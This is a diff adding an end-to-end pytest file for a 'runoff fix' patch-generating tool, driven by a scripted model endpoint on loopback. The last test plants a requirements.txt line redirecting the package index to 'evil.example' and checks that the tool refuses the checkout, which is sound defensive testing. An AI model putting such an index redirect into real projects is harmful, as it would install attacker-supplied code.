@@ -1,0 +1,182 @@
+"""``runoff fix`` from the command to the patch: a real checkout, real sandboxes, a scripted endpoint on loopback."""
+
+import json
+import os
+import signal
+import subprocess
+import sys
+import threading
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+import pytest
+
+ISSUE = """double() is one too high
+
+```python
+>>> from m import double
+>>> double(2)
+5
+```
+
+I expected `4`.
+"""
+BUG, FIX = "    return x + x + 1", "    return x + x"
+EDIT = f"m.py\n<<<<<<< SEARCH\n{BUG}\n=======\n{FIX}\n>>>>>>> REPLACE\n"
+TEST = "```python\nimport sys\nfrom m import double\nif double(3) != 6:\n    sys.exit(2)\n```"
+
+
+SMALL = ("--trajectories", "1", "--tests", "0")
+
+
+class Endpoint(ThreadingHTTPServer):
+    """Answers with the right edit and a right test; holds the answers back while ``gate`` is closed."""
+
+    daemon_threads = True
+
+    def __init__(self):
+        super().__init__(("127.0.0.1", 0), Handler)
+        self.requests = []
+        self.status = 200
+        self.asked, self.gate = threading.Event(), threading.Event()
+        self.gate.set()
+        threading.Thread(target=self.serve_forever, daemon=True).start()
+
+    @property
+    def address(self):
+        return f"http://127.0.0.1:{self.server_port}/v1"
+
+
+class Handler(BaseHTTPRequestHandler):
+    def do_POST(self):
+        request = json.loads(self.rfile.read(int(self.headers["content-length"])))
+        self.server.requests.append(json.dumps(request["messages"]))
+        self.server.asked.set()
+        self.server.gate.wait(600)
+        last = request["messages"][-1]["content"]
+        content = TEST if "Write a test" in last else "DONE" if "DONE if" in last else EDIT
+        choice = {"index": 0, "message": {"role": "assistant", "content": content}, "finish_reason": "stop"}
+        usage = {"prompt_tokens": 10, "completion_tokens": 5, "total_tokens": 15}
+        body = json.dumps({"id": "1", "object": "chat.completion", "model": "m", "choices": [choice], "usage": usage})
+        self.send_response(self.server.status)
+        self.send_header("content-type", "application/json")
+        self.send_header("content-length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body.encode())
+
+    def log_message(self, *_):
+        pass
+
+
+@pytest.fixture
+def endpoint():
+    with Endpoint() as server:
+        yield server
+        server.gate.set()
+        server.shutdown()
+
+
+@pytest.fixture
+def checkout(tmp_path):
+    root = tmp_path / "project"
+    (root / "tests").mkdir(parents=True)
+    (root / "m.py").write_text(f"def double(x):\n{BUG}\n\n\ndef one():\n    return 1\n")
+    (root / "tests/test_m.py").write_text("from m import one\n\n\ndef test_one():\n    assert one() == 1\n")
+    git(root, "init", "-q")
+    git(root, "add", ".")
+    git(root, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "-m", "start")
+    (root / "m.py").write_text((root / "m.py").read_text() + "\n\nLOCAL = 'not committed'\n")
+    (root / "notes.txt").write_text("not tracked\n")
+    return root
+
+
+def git(folder, *arguments):
+    return subprocess.run(["git", *arguments], cwd=folder, capture_output=True, check=True, text=True).stdout
+
+
+def state(root):
+    return git(root, "status", "--porcelain"), {p.name: p.read_bytes() for p in root.rglob("*.*") if p.is_file()}
+
+
+def command(checkout, endpoint, *more):
+    (checkout.parent / "issue.md").write_text(ISSUE)
+    options = ["-m", "openai/scripted", "-c", f"api_base={endpoint.address}", "--trajectories", "2", "--tests", "1"]
+    arguments = ["fix", str(checkout), "--issue", str(checkout.parent / "issue.md"), *options, "-w", "2", *more]
+    return [sys.executable, "-c", "from swebench_runs.cli import main; main()", *arguments]
+
+
+def environment(tmp_path):
+    own = {"XDG_STATE_HOME": str(tmp_path / "home"), "RUNOFF_STATE": str(tmp_path / "s"), "OPENAI_API_KEY": "none"}
+    return {**os.environ, **own}
+
+
+def fix(checkout, endpoint, *more):
+    return subprocess.run(
+        command(checkout, endpoint, *more),
+        capture_output=True,
+        text=True,
+        cwd=checkout.parent,
+        env=environment(checkout.parent),
+        timeout=200,
+    )
+
+
+def test_a_patch_that_applies_and_an_untouched_checkout(checkout, endpoint):
+    before = state(checkout)
+    done = fix(checkout, endpoint)
+    assert done.returncode == 0, done.stderr
+    assert state(checkout) == before
+    assert "The patch, confidence" in done.stderr
+    assert f"-{BUG}\n+{FIX}\n" in done.stdout
+    subprocess.run(["git", "apply", "-"], input=done.stdout, text=True, cwd=checkout, check=True)
+    assert "LOCAL = 'not committed'" in (checkout / "m.py").read_text()
+    assert list((checkout.parent / "s").glob("*")) == []
+
+    asked = len(endpoint.requests)
+    git(checkout, "apply", "-R", str(write(checkout.parent / "p.diff", done.stdout)))
+    again = fix(checkout, endpoint, "--apply", "-o", checkout.parent / "out.patch")
+    assert again.returncode == 0, again.stderr
+    assert len(endpoint.requests) == asked
+    assert again.stdout == ""
+    assert (checkout.parent / "out.patch").read_text() == done.stdout
+    assert FIX + "\n" in (checkout / "m.py").read_text()
+
+
+def write(path, text):
+    path.write_text(text)
+    return path
+
+
+@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGKILL])
+def test_an_interrupted_fix_resumes_and_asks_nothing_twice(checkout, endpoint, number):
+    endpoint.gate.clear()
+    process = subprocess.Popen(
+        command(checkout, endpoint, *SMALL), stdout=-1, stderr=-1, text=True, env=environment(checkout.parent)
+    )
+    assert endpoint.asked.wait(120)
+    process.send_signal(number)
+    _, told = process.communicate(timeout=60)  # its model call is held back for ten minutes
+    assert process.returncode == (130 if number != signal.SIGKILL else -9), told
+    in_flight = len(endpoint.requests)
+    endpoint.gate.set()
+    done = fix(checkout, endpoint, *SMALL)
+    assert done.returncode == 0, done.stderr
+    assert f"+{FIX}" in done.stdout
+    assert len(endpoint.requests) <= len(set(endpoint.requests)) + in_flight
+    assert list((checkout.parent / "s").glob("*")) == []
+
+
+def test_a_refused_key_is_one_line(checkout, endpoint):
+    endpoint.status = 401
+    done = fix(checkout, endpoint, *SMALL)
+    assert done.returncode == 1
+    assert "Traceback" not in done.stderr
+    assert "401" in done.stderr.splitlines()[-1] or "key" in done.stderr.splitlines()[-1]
+    assert len(endpoint.requests) <= 2
+
+
+def test_a_hostile_checkout_is_refused_before_anything_runs(checkout, endpoint):
+    (checkout / "requirements.txt").write_text("--index-url https://evil.example/simple\n")
+    done = fix(checkout, endpoint)
+    assert done.returncode == 2
+    assert "refused" in done.stderr
+    assert endpoint.requests == []
